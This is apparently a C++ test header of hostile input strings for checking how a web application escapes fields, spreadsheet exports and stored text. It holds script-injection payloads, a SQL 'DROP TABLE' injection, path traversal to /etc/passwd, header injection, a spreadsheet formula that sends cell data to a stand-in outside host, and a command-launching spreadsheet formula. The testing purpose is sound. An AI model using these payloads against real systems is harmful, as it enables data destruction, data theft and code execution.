// What somebody types who wants a page, a list, a file for a spreadsheet or a database to do something else than show it.
#pragma once

#include <string>
#include <vector>

namespace redress::web::testing {

struct HostileText {
  const char* what;
  std::string text;
};

inline std::string repeated(const char* letters, int times) {
  std::string text;
  for (int i = 0; i < times; ++i) text += letters;
  return text;
}

// On one line of at most 200 bytes: the most that any field takes.
inline const std::vector<HostileText>& hostile_lines() {
  static const std::vector<HostileText> texts{
      {"tags",
       "<script>window.hostile=1</script>\"><img src=x onerror=\"window.hostile=1\">' onload='window.hostile=1"},
      {"the end of what holds it",
       "</textarea></title></script></option><!-- --!><![CDATA[<svg onload=window.hostile=1>"},
      {"references, templates, SQL",
       "&lt;b&gt;&#60;b&amp;amp;&notin {{7*7}}${7*7}<%=7*7%> x'); DROP TABLE casefile; -- /*\\"},
      {"addresses", "javascript:window.hostile=1//../../etc/passwd%00%0d%0aSet-Cookie:%20hostile=1 %s%n"},
      {"a formula", "=HYPERLINK(\"https://elsewhere.example.org/?\"&A1,\"open\")"},
      {"letters that turn round and have no width",
       "letter \u202Efdp.exe\u202C\u2066a\u2069 b\u200Bc\u200D\u2060\uFEFFd"},
      {"marks and emoji",
       "Z" + repeated("\u0351\u0324", 30) + "\U0001F469\U0001F3FD\u200D\U0001F680\U0001F3F4\U000E0067\U000E007F"},
  };
  return texts;
}

// What else a spreadsheet would calculate.
inline const std::vector<HostileText>& hostile_sums() {
  static const std::vector<HostileText> texts{{"a plus", "+1+cmd|' /C calc'!A0"},
                                              {"a minus", "-1+1"},
                                              {"an at", "@SUM(A1:A9)"},
                                              {"a full-width equals sign", "\uFF1D1+1"}};
  return texts;
}

// In the lines and lengths that a text box takes.
inline const std::vector<HostileText>& hostile_blocks() {
  static const std::vector<HostileText> texts{
      {"lines of a head", "one\r\nSet-Cookie: hostile=1\r\n\r\n<b>two</b>"},
      {"64 KiB without a blank", std::string(std::size_t{64} << 10U, 'W')},
      {"64 KiB of letters of two bytes", "a" + repeated("\u00E9", (32 << 10) - 1)}};
  return texts;
}

// What no field takes.
inline const std::vector<HostileText>& impossible_texts() {
  static const std::vector<HostileText> texts{{"NUL", std::string("before\0after", 12)},
                                              {"control characters", "a\x01\x0B\x1B[31mb\x7F"},
                                              {"what is not UTF-8", "a\xED\xA0\x80z\xFF"},
                                              {"more than 64 KiB", std::string((std::size_t{64} << 10U) + 1, 'W')}};
  return texts;
}

// All of those together.
inline std::vector<HostileText> hostile_texts() {
  std::vector<HostileText> all;
  for (const auto* some : {&hostile_lines(), &hostile_sums(), &hostile_blocks(), &impossible_texts()})
    all.insert(all.end(), some->begin(), some->end());
  return all;
}

// One of each kind.
inline std::vector<HostileText> a_few_hostile_texts() {
  return {hostile_lines().at(0),  hostile_lines().at(4),  hostile_lines().at(5),
          hostile_blocks().at(0), hostile_blocks().at(2), impossible_texts().at(0)};
}

}  // namespace redress::web::testing
